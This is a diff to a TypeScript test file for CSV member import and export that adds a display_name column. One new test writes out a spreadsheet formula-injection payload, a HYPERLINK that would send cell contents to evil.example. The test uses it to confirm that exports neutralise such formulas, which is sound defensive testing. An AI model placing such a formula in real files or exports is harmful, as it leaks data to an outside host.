@@ -307,9 +307,9 @@ forEachStore(
     for await (const page of exportMembers(store, id)) text += page
     assert.equal(
       text,
-      'email,object_id,subject,service_account,role,issuer\r\n' +
-        `'+anna@acme.example,${ANNA},,,owner,${ISSUER}\r\n` +
-        `'-bert'@acme.example,${BERT},,,developer,${ISSUER}\r\n`,
+      'email,object_id,subject,service_account,role,issuer,display_name\r\n' +
+        `'+anna@acme.example,${ANNA},,,owner,${ISSUER},\r\n` +
+        `'-bert'@acme.example,${BERT},,,developer,${ISSUER},\r\n`,
     )
     assert.deepEqual(await outcomes(store, text), ['2 already', '3 already'])
     const before = await membersOf(store, id)
@@ -350,6 +350,59 @@ scanner.tools@prod.kubernetes,${ANNA},
   }
   let text = ''
   for await (const page of exportMembers(store, id)) text += page
-  assert.match(text, /\r\nscanner\.tools@prod\.kubernetes,,,tools\/scanner,developer,kubernetes:prod\r\n$/)
+  assert.match(text, /\r\nscanner\.tools@prod\.kubernetes,,,tools\/scanner,developer,kubernetes:prod,\r\n$/)
   assert.deepEqual(await outcomes(store, text), ['2 already', '3 already'])
 })
+
+const NAMED = 'email,object_id,display_name'
+
+forEachStore('B-01 a file names people, and an export of their names comes back as it was', async (_t, open) => {
+  const store = await open()
+  const { id } = await aConnectedTeamspace(store, 'acme')
+  const formula = '=HYPERLINK("http://evil.example?x="&A1;"+x")'
+  const guarded = formula.replace('=H', "'=H").replace(';"', `;'"`)
+  const cell = `"${formula.replaceAll('"', '""')}"`
+  const text = [NAMED, `anna@acme.example,${ANNA},${cell}`, `bert@acme.example,${BERT},  Bert\u202e  Berg `].join(
+    '\r\n',
+  )
+  assert.deepEqual(await outcomes(store, text), ['2 added', '3 added'])
+  const namesOf = async () => (await membersOf(store, id)).map(({ displayName }) => displayName)
+  assert.deepEqual(await namesOf(), [formula, 'Bert Berg'])
+
+  let exported = ''
+  for await (const page of exportMembers(store, id)) exported += page
+  const [header, first, second] = exported.split('\r\n')
+  assert.match(header!, /,display_name$/)
+  assert.ok(first!.endsWith(`,"${guarded.replaceAll('"', '""')}"`), first)
+  assert.match(second!, /,Bert Berg$/)
+  assert.deepEqual(await outcomes(store, exported), ['2 already', '3 already'])
+  assert.deepEqual(await namesOf(), [formula, 'Bert Berg'])
+})
+
+forEachStore('B-01 a file renames whom files alone have brought, and names whoever has no name', async (_t, open) => {
+  const store = await open()
+  const { id } = await aConnectedTeamspace(store, 'acme')
+  accepted(await addMember(editorOf(store), 'acme', { email: 'bert@acme.example', objectId: BERT }))
+  const file = (anna: string, bert: string) =>
+    [NAMED, `anna@acme.example,${ANNA},${anna}`, `bert@acme.example,${BERT},${bert}`].join('\n')
+  const namesOf = async () => (await membersOf(store, id)).map(({ displayName }) => displayName)
+  assert.deepEqual(await outcomes(store, file('Anna', 'Bert'), { mode: 'dry-run' }), ['2 added', '3 updated'])
+  assert.deepEqual(await outcomes(store, file('Anna', 'Bert')), ['2 added', '3 updated'])
+  assert.deepEqual(await namesOf(), ['Anna', 'Bert'])
+  assert.deepEqual(await outcomes(store, file('Anna Berg', 'Albert')), ['2 updated', '3 already'])
+  assert.deepEqual(await outcomes(store, file('', '')), ['2 already', '3 already'])
+  assert.deepEqual(await namesOf(), ['Anna Berg', 'Bert'])
+})
+
+forEachStore(
+  'B-01 two rows that differ in nothing but the name are the same person, not a conflict',
+  async (_t, open) => {
+    const store = await open()
+    const { id } = await aConnectedTeamspace(store, 'acme')
+    const row = `anna@acme.example,${ANNA}`
+    const text = [NAMED, `${row},Anna`, `${row},Anna Berg`, `${row},`].join('\n')
+    const twice = ['3 duplicate repeats line 2', '4 duplicate repeats line 2']
+    assert.deepEqual(await outcomes(store, text), ['2 added', ...twice])
+    assert.equal((await membersOf(store, id))[0]?.displayName, 'Anna')
+  },
+)
